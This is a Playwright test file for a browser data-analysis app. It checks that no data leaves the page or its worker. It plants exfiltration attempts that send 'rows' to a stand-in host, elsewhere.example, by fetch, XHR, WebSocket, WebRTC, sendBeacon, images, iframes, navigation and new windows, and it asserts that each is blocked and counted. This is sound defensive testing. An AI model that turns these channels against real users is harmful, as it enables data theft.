/** Promise 1: nothing leaves. Attempts are planted in page and worker, on a host that sends the headers and on one that sends none. */
import { expect, openPage, test, waitForAllSteps } from "./journey";

const elsewhere = "https://elsewhere.example";

/** Each says "left" where the attempt got through, else why not. */
const attempts: Readonly<Record<string, (address: string) => Promise<string>>> = {
  fetch: (address) =>
    fetch(`${address}/fetch`).then(
      () => "left",
      (error: unknown) => String(error),
    ),
  "fetch to its own host": () =>
    fetch(`${location.origin}/collect?rows=1`, { method: "POST", body: "rows" }).then(
      () => "left",
      (error: unknown) => String(error),
    ),
  xhr: (address) =>
    new Promise((resolve) => {
      try {
        const request = new XMLHttpRequest();
        request.open("POST", `${address}/xhr`);
        request.addEventListener("load", () => resolve("left"));
        request.addEventListener("error", () => resolve("error"));
        request.send("rows");
      } catch (error) {
        resolve(String(error));
      }
    }),
  websocket: (address) =>
    new Promise((resolve) => {
      try {
        const socket = new WebSocket(`${address.replace("https", "wss")}/socket`);
        socket.addEventListener("open", () => resolve("left"));
        socket.addEventListener("error", () => resolve("error"));
      } catch (error) {
        resolve(String(error));
      }
    }),
  webrtc: () =>
    new Promise((resolve) => {
      try {
        const connection = new RTCPeerConnection({ iceServers: [{ urls: "stun:elsewhere.example" }] });
        connection.createDataChannel("rows");
        resolve("left");
      } catch (error) {
        resolve(String(error));
      }
    }),
  beacon: (address) => {
    try {
      return Promise.resolve(navigator.sendBeacon(`${address}/beacon`, "rows") ? "left" : "refused");
    } catch (error) {
      return Promise.resolve(String(error));
    }
  },
  picture: (address) =>
    new Promise((resolve) => {
      const image = new Image();
      image.addEventListener("load", () => resolve("left"));
      image.addEventListener("error", () => resolve("error"));
      image.src = `${address}/picture.png?rows`;
    }),
  "picture from its own host": () =>
    new Promise((resolve) => {
      const image = new Image();
      image.addEventListener("load", () => resolve("left"));
      image.addEventListener("error", () => resolve("error"));
      image.src = `${location.origin}/picture.png?rows`;
    }),
  "service worker": () =>
    navigator.serviceWorker.register("./index.html?rows").then(
      () => "left",
      (error: unknown) => String(error),
    ),
  frame: (address) =>
    new Promise((resolve) => {
      document.addEventListener("securitypolicyviolation", () => resolve("refused"), { once: true });
      const frame = document.createElement("iframe");
      frame.src = `${address}/frame`;
      document.body.append(frame);
    }),
  navigation: (address) => {
    location.href = `${address}/navigation?rows`;
    return new Promise((resolve) => {
      setTimeout(() => resolve("stayed"), 300);
    });
  },
  link: (address) => {
    const link = document.createElement("a");
    link.href = `${address}/link?rows`;
    document.body.append(link);
    link.click();
    return new Promise((resolve) => {
      setTimeout(() => resolve("stayed"), 300);
    });
  },
  "new window": (address) => {
    try {
      return Promise.resolve(window.open(`${address}/window?rows`) ? "left" : "refused");
    } catch (error) {
      return Promise.resolve(String(error));
    }
  },
};

const inWorker = ["fetch", "fetch to its own host", "xhr", "websocket", "webrtc"];

for (const [host, address] of [
  ["with headers", "http://localhost:4199/"],
  ["without headers", "http://localhost:4198/"],
] as const) {
  test.describe(`a host ${host}`, () => {
    test.use({ baseURL: address });

    test("planted attempts in the page are blocked, counted and shown", async ({
      page,
      foreignRequests,
      expectedErrors,
    }) => {
      expectedErrors.push(/Content Security Policy|ERR_BLOCKED_BY_CSP|blocked/i);
      await openPage(page);
      for (const [name, attempt] of Object.entries(attempts)) {
        const before = await page.evaluate(() => window.lightbench.ledger().blocked);
        expect(await page.evaluate(attempt, elsewhere), name).not.toBe("left");
        await expect
          .poll(() => page.evaluate(() => window.lightbench.ledger().blocked), { message: `${name} is counted` })
          .toBeGreaterThan(before);
        expect(page.url(), name).toContain(new URL(address).host);
      }
      expect(await page.evaluate(() => window.lightbench.ledger().requests)).toBe(0);
      expect(foreignRequests).toEqual([]);
      await page.getByRole("button", { name: /requests left this page/ }).click();
      await expect(page.getByText(/elsewhere\.example/).first()).toBeVisible();
    });

    test("planted attempts in the worker are blocked and counted", async ({
      page,
      foreignRequests,
      expectedErrors,
    }) => {
      expectedErrors.push(/Content Security Policy|ERR_BLOCKED_BY_CSP|blocked/i);
      await openPage(page);
      const worker = page.workers()[0];
      if (!worker) throw new Error("the engine runs in no worker");
      for (const name of inWorker) {
        const attempt = attempts[name];
        if (!attempt) throw new Error(`no attempt ${name}`);
        const before = await page.evaluate(() => window.lightbench.ledger().blocked);
        expect(await worker.evaluate(attempt, elsewhere), name).not.toBe("left");
        if (name === "webrtc") continue; // workers have none: nothing to count
        await expect
          .poll(() => page.evaluate(() => window.lightbench.ledger().blocked), { message: `${name} is counted` })
          .toBeGreaterThan(before);
      }
      expect(await page.evaluate(() => window.lightbench.ledger().requests)).toBe(0);
      expect(foreignRequests).toEqual([]);
    });
  });
}

test("after loading, a whole journey asks for nothing, not even from its own host", async ({
  page,
  foreignRequests,
}) => {
  await openPage(page);
  await waitForAllSteps(page);
  const asked: string[] = [];
  page.on("request", (request) => {
    if (!request.url().startsWith("blob:")) asked.push(request.url());
  });
  await page.evaluate(async () => {
    const api = window.lightbench;
    const dataset = await api.sample("blood-panel");
    const sample = api.samples().find(({ id }) => id === "blood-panel");
    const run = await api.fit({ dataset: dataset.id, task: sample!.task, model: sample!.model });
    await api.predict(run.id, { dataset: dataset.id, rows: [0, 1, 2] });
  });
  for (const step of ["Data", "Prepare", "Train", "Evaluate", "Use"]) {
    await page.getByRole("navigation").getByText(step, { exact: true }).click();
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  }
  expect(asked).toEqual([]);
  expect(foreignRequests).toEqual([]);
  expect(await page.evaluate(() => window.lightbench.ledger())).toMatchObject({ requests: 0, blocked: 0 });
});
